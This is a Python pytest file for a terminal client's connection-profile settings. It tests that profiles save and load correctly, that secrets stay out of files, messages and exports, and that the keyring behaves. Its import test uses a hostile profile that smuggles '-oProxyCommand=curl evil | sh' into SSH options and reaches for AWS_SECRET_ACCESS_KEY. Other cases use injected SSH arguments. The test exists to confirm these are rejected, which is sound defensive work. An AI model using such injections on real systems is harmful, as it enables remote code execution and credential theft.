"""Profiles: read, saved, shared; nothing secret in the file, on the screen or in what is given away."""

from __future__ import annotations

import copy
import json
import pickle
import tomllib
from pathlib import Path
from types import ModuleType

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.sentences import sentence_of
from tui.config.profiles import (
    Profile,
    export_profile,
    import_profiles,
    load_profiles,
    read_profiles,
    remove_profile,
    save_profile,
)
from tui.config.secrets import HIDDEN, KeySource, Secret, find_key, forget_key, keep_key, secret_in
from tui.config.settings_file import ConfigFile
from tui.model.problem import ProblemError
from tui.model.request import Sampling

BOX = Profile(
    "box",
    ssh="root@gpu-box:48626",
    ssh_options=("-i", "~/.ssh/id"),
    ssh_server="127.0.0.1:24444",
    new_host_each_time=True,
    api_key=KeySource("env", "BOX_KEY"),
    model="internlm2_5",
    system_prompt="Be brief.\n用中文。",
    tools=("add",),
    sampling=Sampling(temperature=0.5, stop=("。",), chat_template_kwargs={"enable_thinking": False, "n": [1, {}]}),
)
PLAIN = Profile("plain", url="http://127.0.0.1:23333")


def test_a_profile_survives_the_file_and_comments_survive_the_profile(tmp_path: Path):
    path = tmp_path / "c.toml"
    path.write_text('# mine\ntheme = "x" # yes\n')
    save_profile(path, BOX)
    save_profile(path, PLAIN)
    found = load_profiles(path)
    assert found.problems == ()
    assert dict(found.by_name) == {"box": BOX, "plain": PLAIN}
    assert list(found.by_name) == ["box", "plain"]
    smaller = Profile("box", url="http://h", system_prompt="", tools=())
    save_profile(path, smaller)
    assert load_profiles(path).get("box") == smaller
    remove_profile(path, "box")
    assert dict(load_profiles(path).by_name) == {"plain": PLAIN}
    assert path.read_text().startswith('# mine\ntheme = "x" # yes\n')
    with pytest.raises(ProblemError) as caught:
        remove_profile(path, "box")
    assert caught.value.problem.code == "config.no_profile"


def test_addresses():
    assert PLAIN.address == "http://127.0.0.1:23333"
    assert BOX.address == "ssh://root@gpu-box:48626/127.0.0.1:24444"
    assert Profile("x", ssh="ssh://h").address == "ssh://h/127.0.0.1:23333"
    assert BOX.address in BOX.account


def test_an_unknown_profile_is_answered_with_the_nearest():
    found = read_profiles(ConfigFile(Path("c"), data={"profiles": {"gpu-box": {"url": "http://h"}}}))
    for name, code in (("gpu_bx", "config.no_profile_like"), ("zzz", "config.no_profile")):
        with pytest.raises(ProblemError) as caught:
            found.get(name)
        assert caught.value.problem.code == code
        sentence_of(caught.value.problem)


@pytest.mark.parametrize(
    ("table", "code"),
    [
        ("[profiles.x]\nmodel = 'm'", "config.profile_no_place"),
        ("[profiles.x]\nurl = 'http://h'\nssh = 'h'", "config.profile_two_places"),
        ("[profiles.x]\nurl = 3", "config.not_text"),
        ("[profiles.x]\nurl = 'http://h'\napi_key = 'sk-12345'", "config.secret_in_file"),
        ("[profiles.x]\nurl = 'http://h'\napi_key = 'env:abc123'", "config.secret_in_file"),
        ("[profiles.x]\nurl = 'http://h'\napi_key = 'env:'", "config.secret_in_file"),
        ("[profiles.x]\nurl = 'http://h'\napi_key = 12345", "config.not_text"),
        ("[profiles.x]\nurl = 'http://u:12345@h'", "config.secret_in_url"),
        ("[profiles.x]\nurl = 'http://h/?api_key=12345'", "config.secret_in_url"),
        ("[profiles.x]\nssh = 'root:12345@h'", "config.secret_in_url"),
        ("[profiles.x]\nssh = '-oProxyCommand=x'", "config.profile_bad_host"),
        ("[profiles.x]\nssh = 'h -v'", "config.profile_bad_host"),
        ("[profiles.x]\nssh = 'h'\nssh_server = '-L'", "config.profile_bad_host"),
        ("[profiles]\nx = 3", "config.not_table"),
        ("[profiles.'a b']\nurl = 'http://h'", "config.profile_name"),
        ("[profiles.-x]\nurl = 'http://h'", "config.profile_name"),
    ],
)
def test_a_mistake_about_where_it_leads_refuses_the_profile(tmp_path: Path, table: str, code: str):
    path = tmp_path / "c.toml"
    path.write_text(f"{table}\n[profiles.good]\nurl = 'http://h'\n".replace("[profiles]\n", "profiles."))
    if table.startswith("[profiles]"):
        path.write_text("profiles.x = 3\nprofiles.good.url = 'http://h'\n")
    found = load_profiles(path)
    assert [problem.code for problem in found.problems] == [code]
    assert list(found.by_name) == ["good"]
    sentence = sentence_of(found.problems[0])
    assert "c.toml:" in sentence
    assert "12345" not in sentence
    assert "abc123" not in sentence


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ("modell = 'm'", "config.unknown_key_like"),
        ("model = 3", "config.not_text"),
        ("sampling.temperature = 9", "config.out_of_range"),
        ("sampling.temprature = 1", "config.unknown_key_like"),
        ("sampling = 1", "config.not_table"),
        ("tools = 'add'", "config.not_list"),
        ("chat_template_kwargs = 1", "config.not_table"),
        ("chat_template_kwargs = {a = 2020-01-01}", "config.not_table"),
        ("chat_template_kwargs = {a = nan}", "config.not_table"),
    ],
)
def test_other_mistakes_cost_only_the_value(tmp_path: Path, line: str, code: str):
    path = tmp_path / "c.toml"
    path.write_text(f"[profiles.x]\nurl = 'http://h'\n{line}\n")
    found = load_profiles(path)
    assert [problem.code for problem in found.problems] == [code]
    assert "c.toml:3" in sentence_of(found.problems[0])
    assert found.by_name["x"] == Profile("x", url="http://h")


def test_a_broken_file_and_a_wrong_table_have_no_profiles(tmp_path: Path):
    path = tmp_path / "c.toml"
    path.write_text("profiles = 3")
    assert load_profiles(path).by_name == {}
    path.write_text("[profiles")
    assert [problem.code for problem in load_profiles(path).problems] == ["config.broken_toml"]


def test_what_could_not_be_read_back_is_not_saved(tmp_path: Path):
    for profile, code in (
        (Profile("x"), "config.profile_no_place"),
        (Profile("../x", url="http://h"), "config.profile_name"),
        (Profile("x", url="http://u:p@h"), "config.secret_in_url"),
        (Profile("x", url="http://h", sampling=Sampling(temperature=5.0)), "config.out_of_range"),
    ):
        with pytest.raises(ProblemError) as caught:
            save_profile(tmp_path / "c.toml", profile)
        assert caught.value.problem.code == code
    assert not (tmp_path / "c.toml").exists()


def test_what_is_given_away_holds_nothing_private():
    text = export_profile(BOX)
    table = tomllib.loads(text)["profiles"]["box"]
    assert set(table) == {
        "ssh", "ssh_server", "model", "system_prompt", "tools", "sampling", "chat_template_kwargs"
    }  # fmt: skip
    assert "BOX_KEY" not in text
    found = import_profiles(text, "box.toml")
    assert found.dropped == ()
    assert found.profiles[0].system_prompt == BOX.system_prompt
    assert found.profiles[0].sampling == BOX.sampling


def test_what_others_give_cannot_take_our_keys_or_run_programs():
    text = """
    [profiles.free-gpu]
    ssh = "h"
    api_key = "env:AWS_SECRET_ACCESS_KEY"
    ssh_options = ["-oProxyCommand=curl evil | sh"]
    new_host_each_time = true
    """
    found = import_profiles(text, "gift.toml")
    assert found.profiles == (Profile("free-gpu", ssh="h"),)
    assert found.dropped == ("free-gpu.api_key", "free-gpu.ssh_options", "free-gpu.new_host_each_time")


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("theme = 'x'", "config.import_nothing"),
        ("profiles = 3", "config.import_nothing"),
        ("[profiles.x", "config.broken_toml"),
        ("[profiles]\nx = 1", "config.not_table"),
        ("[profiles.x]\nurl = 'http://u:p@h'", "config.secret_in_url"),
        ("[profiles.x]\nurl = 'http://h'\nsampling.top_k = 'many'", "config.not_whole"),
    ],
)
def test_an_import_with_a_mistake_imports_nothing(text: str, code: str):
    with pytest.raises(ProblemError) as caught:
        import_profiles(text, "gift.toml")
    assert caught.value.problem.code == code
    sentence_of(caught.value.problem)


def test_a_secret_shows_itself_nowhere():
    key = Secret("sk-12345")
    for shown in (repr(key), str(key), f"{key}", f"{key:>12}", f"{key!r}", f"{[key]}", "%s" % key):  # noqa: UP031
        assert "12345" not in shown
    assert key.reveal() == "sk-12345"
    assert key.scrub("sent sk-12345 there") == f"sent {HIDDEN} there"
    assert Secret("").scrub("text") == "text"
    assert key == Secret("sk-12345")
    assert key != Secret("sk-1")
    assert key != "sk-12345"
    assert len({key, Secret("sk-12345")}) == 1
    assert bool(key) and not Secret("")  # noqa: PT018
    for write in (pickle.dumps, json.dumps, copy.copy):
        with pytest.raises(TypeError):
            write(key)
    assert not hasattr(key, "__dict__")


def test_a_key_from_the_environment(monkeypatch: pytest.MonkeyPatch):
    assert PLAIN.find_key() is None
    monkeypatch.delenv("BOX_KEY", raising=False)
    with pytest.raises(ProblemError) as caught:
        BOX.find_key()
    assert caught.value.problem.code == "config.key_variable_empty"
    sentence_of(caught.value.problem)
    monkeypatch.setenv("BOX_KEY", " sk-1\n")
    assert BOX.find_key() == Secret("sk-1")


class _Keyring(ModuleType):
    """The three functions of the keyring package, kept in memory."""

    def __init__(self) -> None:
        super().__init__("keyring")
        self.kept: dict[tuple[str, str], str] = {}

    def get_password(self, service: str, username: str) -> str | None:
        return self.kept.get((service, username))

    def set_password(self, service: str, username: str, password: str) -> None:
        self.kept[service, username] = password

    def delete_password(self, service: str, username: str) -> None:
        del self.kept[service, username]


def test_a_key_in_the_keyring_belongs_to_one_address(monkeypatch: pytest.MonkeyPatch):
    ring = _Keyring()
    monkeypatch.setitem(__import__("sys").modules, "keyring", ring)
    here = Profile("x", url="http://good", api_key=KeySource("keyring"))
    keep_key(here.account, Secret("sk-1"))
    assert here.find_key() == Secret("sk-1")
    elsewhere = Profile("x", url="http://evil", api_key=KeySource("keyring"))
    with pytest.raises(ProblemError) as caught:
        elsewhere.find_key()
    assert caught.value.problem.code == "config.key_missing"
    sentence_of(caught.value.problem)
    assert forget_key(here.account)
    assert not forget_key(here.account)
    assert ring.kept == {}


@pytest.mark.parametrize(
    ("source", "code"),
    [
        ("raise ImportError('libsecret')", "config.keyring_broken"),
        ("import a_backend_that_is_missing", "config.keyring_broken"),
        ("def get_password(*a): raise RuntimeError('no D-Bus')\nset_password = get_password", "config.keyring_broken"),
        ("def set_password(s, u, p): raise OSError('cannot keep ' + p)", "config.keyring_broken"),
        (None, "config.keyring_absent"),
    ],
)
def test_a_keyring_that_does_not_work_is_one_sentence(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str | None, code: str
):
    import sys

    monkeypatch.delitem(sys.modules, "keyring", raising=False)
    if source is None:
        monkeypatch.setitem(sys.modules, "keyring", None)  # what an import of an absent package looks like
    else:
        (tmp_path / "keyring.py").write_text(source)
        monkeypatch.syspath_prepend(str(tmp_path))
    for ask in (lambda: find_key(KeySource("keyring"), "x"), lambda: keep_key("x", Secret("sk-12345"))):
        with pytest.raises(ProblemError) as caught:
            ask()
        assert caught.value.problem.code == code
        assert "12345" not in sentence_of(caught.value.problem) + caught.value.problem.detail
        sys.modules.pop("keyring", None) if source is not None else None


def test_a_keyring_that_keeps_nothing_is_noticed(monkeypatch: pytest.MonkeyPatch):
    ring = _Keyring()
    monkeypatch.setattr(ring, "set_password", lambda *_what: None)
    monkeypatch.setitem(__import__("sys").modules, "keyring", ring)
    with pytest.raises(ProblemError) as caught:
        keep_key("x", Secret("sk-1"))
    assert caught.value.problem.code == "config.keyring_broken"


def test_where_a_key_is_in_words():
    assert str(KeySource.parse("env:A_KEY")) == "env:A_KEY"
    assert str(KeySource.parse("keyring")) == "keyring"
    for text in ("", "env", "sk-abc", "env:a", "env:A-B", "keyring:x", "ENV:A"):
        with pytest.raises(ValueError, match="key source"):
            KeySource.parse(text)


def test_secrets_in_addresses():
    for address in ("http://u:p@h", "u:p@h:1", "ssh://u:p@h", "http://h/?token=1", "http://h/v1?a=1&API-KEY=x"):
        assert secret_in(address), address
    for address in (
        "http://h:1",
        "u@h:1",
        "http://[::1]:23333/v1",
        "ssh://u@h:22/127.0.0.1:1",
        "h:1",
        "http://h/a:b@c",
    ):
        assert not secret_in(address), address


TEXT = st.text(max_size=10)


@settings(deadline=None)
@given(
    st.builds(
        Profile,
        name=st.from_regex(r"[a-z0-9][a-z0-9_.-]{0,8}", fullmatch=True),
        url=st.just("http://h:1"),
        model=TEXT,
        system_prompt=st.none() | TEXT,
        tools=st.none() | st.lists(TEXT, max_size=3).map(tuple),
        api_key=st.none() | st.just(KeySource("env", "A")),
        sampling=st.builds(
            Sampling,
            temperature=st.none() | st.floats(0, 2),
            seed=st.none() | st.integers(0, 2**63 - 1),
            stop=st.lists(TEXT, max_size=2).map(tuple),
            chat_template_kwargs=st.dictionaries(TEXT, st.booleans() | TEXT | st.integers(-(2**60), 2**60), max_size=3),
        ),
    )
)
def test_any_profile_survives_the_file(profile: Profile):
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "c.toml"
        save_profile(path, profile)
        assert load_profiles(path).get(profile.name) == profile
